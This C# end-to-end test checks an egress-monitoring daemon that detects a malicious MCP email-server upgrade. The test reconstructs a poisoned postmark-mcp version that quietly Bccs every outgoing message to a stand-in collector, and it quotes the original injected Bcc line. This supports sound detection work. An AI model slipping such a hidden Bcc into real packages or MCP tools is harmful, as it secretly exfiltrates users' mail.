using System.Diagnostics;
using System.Text.Json;
using McpEgress.Native;
using McpEgress.Tests.Cli;
using McpEgress.Tests.Golden;
using Xunit.Abstractions;
using static McpEgress.Tests.Daemon.WatchEndToEndTests;
using static McpEgress.Tests.Inventory.InstrumentEndToEndTests;

namespace McpEgress.Tests.Daemon;

/// <summary>
/// Issue 14's headline, for real, on loopback: a real MCP server on @modelcontextprotocol/sdk in a package directory
/// (postmark-mcp 1.0.15) sends clean mail through the official postmark client to the local stand-in for
/// api.postmarkapp.com (captures/api/standin.js, its TLS key log followed by the daemon); a real MCP client calls its
/// sendEmail tool. The daemon (<c>watch</c> on lo with process attribution) is stopped, the package is upgraded in
/// place to 1.0.16, which adds <c>Bcc: stats@quiet-metrics.example</c> (a domain no list names), and a new daemon
/// starts on the same <c>--state</c> file: critical <c>behaviour-change</c> on the first copy, naming 1.0.15 (3
/// messages) and 1.0.16; no alert on the clean mail. tcpdump records the same traffic; <c>replay --state</c> of that
/// capture (no process information there) gives <c>hidden-sink</c> on the third copy. Needs root (capture, /proc of
/// other processes, port 443), node, tcpdump and captures/api/node_modules.
/// </summary>
[Collection("live daemon")]
public sealed class BehaviourChangeEndToEndTests(ITestOutputHelper output) : IDisposable
{
    private static readonly TimeSpan Step = TimeSpan.FromSeconds(20);
    private readonly DirectoryInfo _dir = Directory.CreateTempSubdirectory("mcp-egress-behaviour-");

    public void Dispose()
    {
        try { _dir.Delete(recursive: true); } catch (IOException) { }
    }

    // The agent: starts the server over stdio (as Claude Desktop would, with the stand-in's DNS preload and test CA in
    // its env) and calls sendEmail once per recipient; keeps the server (and its keep-alive connection) up 1.5 s after.
    private const string AgentJs = """
        const { Client } = require('@modelcontextprotocol/sdk/client/index.js');
        const { StdioClientTransport } = require('@modelcontextprotocol/sdk/client/stdio.js');
        (async () => {
          const [server, api, addr, ...to] = process.argv.slice(2);
          const transport = new StdioClientTransport({ command: process.execPath, args: [server], stderr: 'inherit', env: {
            PATH: process.env.PATH, NODE_OPTIONS: `--require ${api}/dns-override.js`, NODE_EXTRA_CA_CERTS: `${api}/pki/ca.crt`,
            STANDIN_ADDR: addr, POSTMARK_SERVER_TOKEN: 'pm-srv-behaviour-test', DEFAULT_SENDER_EMAIL: 'assistant@corp.example' } });
          const client = new Client({ name: 'agent', version: '1.0.0' });
          await client.connect(transport);
          for (const t of to) {
            const r = await client.callTool({ name: 'sendEmail', arguments: { to: t, subject: 'Follow-up', textBody: 'Thanks for the call.' } });
            if (r.isError) throw new Error(JSON.stringify(r.content));
          }
          console.log('sent ' + to.length);
          await new Promise((ok) => setTimeout(ok, 1500));
          await client.close();
        })().then(() => process.exit(0), (e) => { console.error(e); process.exit(1); });
        """;

    private static readonly string[] Clean = ["dana@client-one.example", "eli@client-two.example", "fay@client-three.example"];
    private static readonly string[] Copied = ["ceo@corp.example", "jane@partner.example", "help@vendor.example"];
    private const string Collector = "stats@quiet-metrics.example";

    [SkippableFact]
    public async Task UpgradeThatAddsABcc_IsBehaviourChangeOnTheFirstCopyAcrossARestart_AndTheCaptureReplaysToHiddenSink()
    {
        Skip.IfNot(LibC.EffectiveUid == 0, "needs root: capture on lo, process attribution through /proc, the stand-in on port 443");
        Skip.IfNot(File.Exists("/proc/net/tcp") && Directory.Exists("/proc/1/fd"), "needs /proc for process attribution");
        Skip.If(FindOnPath("node") is null, "needs node");
        string? tcpdump = FindOnPath("tcpdump");
        Skip.If(tcpdump is null, "needs tcpdump to record the traffic for the replay half");
        string api = Path.Combine(RepoPaths.Captures, "api");
        string nodeModules = Path.Combine(api, "node_modules");
        Skip.IfNot(Directory.Exists(Path.Combine(nodeModules, "@modelcontextprotocol", "sdk")) && Directory.Exists(Path.Combine(nodeModules, "postmark")),
            "captures/api/node_modules missing (npm ci there)");
        var clock = Stopwatch.StartNew();
        string dir = _dir.FullName;
        string addr = $"127.20.14.{Random.Shared.Next(2, 250)}"; // a loopback address of our own: no other test's stand-in
        string keys = Directory.CreateDirectory(Path.Combine(dir, "keys")).FullName;
        string state = Path.Combine(dir, "state.db");
        string capture = Path.Combine(dir, "upgrade.pcap");

        // The package: postmark-mcp 1.0.15 = the incident's server without its Bcc line.
        string evil = File.ReadAllText(Path.Combine(api, "mcp", "evil-postmark-mcp.js"));
        const string BccLine = "      Bcc: 'phan@giftshop.club', // the 1.0.16 change\n";
        Assert.Contains(BccLine, evil);
        string pkg = Directory.CreateDirectory(Path.Combine(dir, "lib", "node_modules", "postmark-mcp")).FullName;
        File.CreateSymbolicLink(Path.Combine(pkg, "node_modules"), nodeModules);
        void Version(string version, string? bcc)
        {
            File.WriteAllText(Path.Combine(pkg, "package.json"), $$"""
                { "name": "postmark-mcp", "version": "{{version}}", "main": "index.js",
                  "dependencies": { "@modelcontextprotocol/sdk": "^1.32.2", "postmark": "^5.1.0", "zod": "^4.6.7" } }
                """);
            File.WriteAllText(Path.Combine(pkg, "index.js"), evil
                .Replace(BccLine, bcc is null ? "" : $"      Bcc: '{bcc}',\n")
                .Replace("version: '1.0.16'", $"version: '{version}'"));
        }
        File.WriteAllText(Path.Combine(dir, "agent.js"), AgentJs);

        using var standin = ChildProcess.Start("node", api, ["standin.js", "--port", "443", "--keylog", Path.Combine(keys, "standin.keys"),
            "--log", Path.Combine(dir, "requests.ndjson")], new Dictionary<string, string> { ["STANDIN_ADDR"] = addr });
        standin.WaitLine("READY", Step);
        using var recorder = ChildProcess.Start(tcpdump!, dir, ["-i", "lo", "-s", "0", "-U", "-w", capture, $"host {addr} and tcp port 443"]);
        for (int i = 0; i < 100 && !(File.Exists(capture) && new FileInfo(capture).Length >= 24); i++) await Task.Delay(100);
        Assert.True(File.Exists(capture), "tcpdump did not start:\n" + recorder.Output);

        // Daemon 1, version 1.0.15: clean mail, attributed, no alert.
        Version("1.0.15", null);
        var before = await RunPhaseAsync(addr, keys, state, Path.Combine(dir, "events-1.ndjson"), Clean);
        var clean = before.Where(d => Kind(d) == "event" && Str(d, "mcp_egress", "provider") == "postmark").ToList();
        Assert.Equal(Clean.Order(), clean.SelectMany(m => Strings(m, "email", "to", "address")).Order());
        Assert.All(clean, m =>
        {
            Assert.Equal("postmark-mcp", Str(m, "mcp_egress", "process", "package"));
            Assert.Equal("1.0.15", Str(m, "mcp_egress", "process", "package_version"));
            Assert.Empty(Strings(m, "email", "bcc", "address"));
        });
        Assert.DoesNotContain(before, d => Kind(d) == "alert");

        // The upgrade, in place; daemon 2 on the same state file.
        Version("1.0.16", Collector);
        var after = await RunPhaseAsync(addr, keys, state, Path.Combine(dir, "events-2.ndjson"), Copied);
        var copies = after.Where(d => Kind(d) == "event" && Str(d, "mcp_egress", "provider") == "postmark")
            .OrderBy(d => Str(d, "@timestamp"), StringComparer.Ordinal).ToList();
        Assert.Equal(Copied, copies.Select(m => Strings(m, "email", "to", "address").Single()));
        Assert.All(copies, m => Assert.Equal([Collector], Strings(m, "email", "bcc", "address")));
        Assert.All(copies, m => Assert.Equal("1.0.16", Str(m, "mcp_egress", "process", "package_version")));
        var alerts = after.Where(d => Kind(d) == "alert").ToList();
        var change = Assert.Single(alerts, a => Str(a, "rule", "id") == "behaviour-change");
        Assert.Equal(Copied[0], Strings(change, "email", "to", "address").Single()); // the first copy
        Assert.Equal("critical", Str(change, "mcp_egress", "alert", "severity"));
        Assert.Equal(Collector, Str(change, "mcp_egress", "alert", "address"));
        Assert.Equal("quiet-metrics.example", Str(change, "mcp_egress", "alert", "baseline", "subject"));
        Assert.Equal("postmark-mcp", Str(change, "mcp_egress", "alert", "baseline", "sender"));
        Assert.Equal("1.0.16", Str(change, "mcp_egress", "alert", "baseline", "new_version"));
        Assert.Equal(["1.0.15"], Strings(change, "mcp_egress", "alert", "baseline", "old_versions"));
        Assert.Equal("3", Str(change, "mcp_egress", "alert", "baseline", "old_version_messages"));
        Assert.Contains("postmark-mcp 1.0.16 sent a hidden copy to stats@quiet-metrics.example", Str(change, "message"));
        Assert.Contains("1.0.15 (3)", Str(change, "message"));
        // Beside it: the host's first hidden recipient there (medium) and the stateless foreign-domain rule (high).
        Assert.Equal("medium", Str(alerts.Single(a => Str(a, "rule", "id") == "new-hidden-domain"), "mcp_egress", "alert", "severity"));
        Assert.Equal(3, alerts.Count(a => Str(a, "rule", "id") == "hidden-foreign-domain"));
        // The live daemon sees the recurrence too: hidden-sink on the third copy, nothing else critical.
        var liveSink = Assert.Single(alerts, a => Str(a, "rule", "id") == "hidden-sink");
        Assert.Equal(Copied[2], Strings(liveSink, "email", "to", "address").Single());
        Assert.DoesNotContain(alerts, a => Str(a, "rule", "id") is "denied-domain" or "limit-exceeded");

        // Stop recording (SIGINT: tcpdump flushes), then replay the whole capture with a fresh --state.
        using (var stop = ChildProcess.Start("kill", dir, ["-INT", recorder.Process.Id.ToString()])) stop.WaitForExit(Step);
        Assert.Equal(0, recorder.WaitForExit(Step));
        string replayState = Path.Combine(dir, "replay.db"), replayed = Path.Combine(dir, "replay.ndjson");
        var (code, _, stderr) = CliRunner.Run("replay", capture, "--keylog", Path.Combine(keys, "standin.keys"), "--state", replayState,
            "--output", replayed, "--no-progress");
        Assert.True(code is 0 or 1, $"replay exit {code}:\n{stderr}");
        var docs = File.ReadAllLines(replayed).Select(l => JsonDocument.Parse(l).RootElement.Clone()).ToList();
        Assert.Equal(6, docs.Count(d => Kind(d) == "event" && Str(d, "mcp_egress", "provider") == "postmark"));
        var sink = Assert.Single(docs, d => Kind(d) == "alert" && Str(d, "rule", "id") == "hidden-sink");
        Assert.Equal(Copied[2], Strings(sink, "email", "to", "address").Single()); // the third copy
        Assert.Equal("critical", Str(sink, "mcp_egress", "alert", "severity"));
        Assert.Equal(Collector, Str(sink, "mcp_egress", "alert", "baseline", "subject"));
        Assert.Equal("3", Str(sink, "mcp_egress", "alert", "baseline", "messages"));
        Assert.Equal(["corp.example", "partner.example", "vendor.example"], Strings(sink, "mcp_egress", "alert", "baseline", "visible_domains"));
        Assert.DoesNotContain(docs, d => Kind(d) == "alert" && Str(d, "rule", "id") == "behaviour-change"); // no process in a capture
        Assert.DoesNotContain(docs, d => Kind(d) == "alert" && Strings(d, "email", "bcc", "address").Count == 0); // clean mail: nothing
        Assert.True(new FileInfo(replayState).Length > 0);

        output.WriteLine($"end to end in {clock.Elapsed.TotalSeconds:F1} s");
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), $"took {clock.Elapsed.TotalSeconds:F1} s");
    }

    /// <summary>One daemon on <paramref name="state"/>: the agent sends to <paramref name="to"/>, SIGTERM, the events.</summary>
    private async Task<List<JsonElement>> RunPhaseAsync(string addr, string keys, string state, string events, string[] to)
    {
        int metricsPort = DaemonProcess.FreePort();
        using var daemon = DaemonProcess.Start(metricsPort, "--interface", "lo", "--filter", $"host {addr} and tcp port 443",
            "--output", events, "--keylog", Path.Combine(keys, "*.keys"), "--state", state);
        await daemon.WaitHealthyAsync();
        using (var agent = ChildProcess.Start("node", _dir.FullName, ["agent.js", Path.Combine(_dir.FullName, "lib", "node_modules", "postmark-mcp", "index.js"),
            Path.Combine(RepoPaths.Captures, "api"), addr, .. to], new Dictionary<string, string> { ["NODE_PATH"] = Path.Combine(RepoPaths.Captures, "api", "node_modules") }))
        {
            agent.WaitLine("sent ", Step);
            Assert.True(agent.WaitForExit(Step) == 0, agent.Output);
        }
        await daemon.WaitForSampleAsync("mcp_egress_messages_total{transport=\"http\",provider=\"postmark\"}", to.Length, Step);
        daemon.Signal(DaemonProcess.SigTerm);
        Assert.Equal(0, daemon.WaitForExit(Step));
        output.WriteLine(daemon.Stderr);
        return File.ReadAllLines(events).Select(l => JsonDocument.Parse(l).RootElement.Clone()).ToList();
    }
}
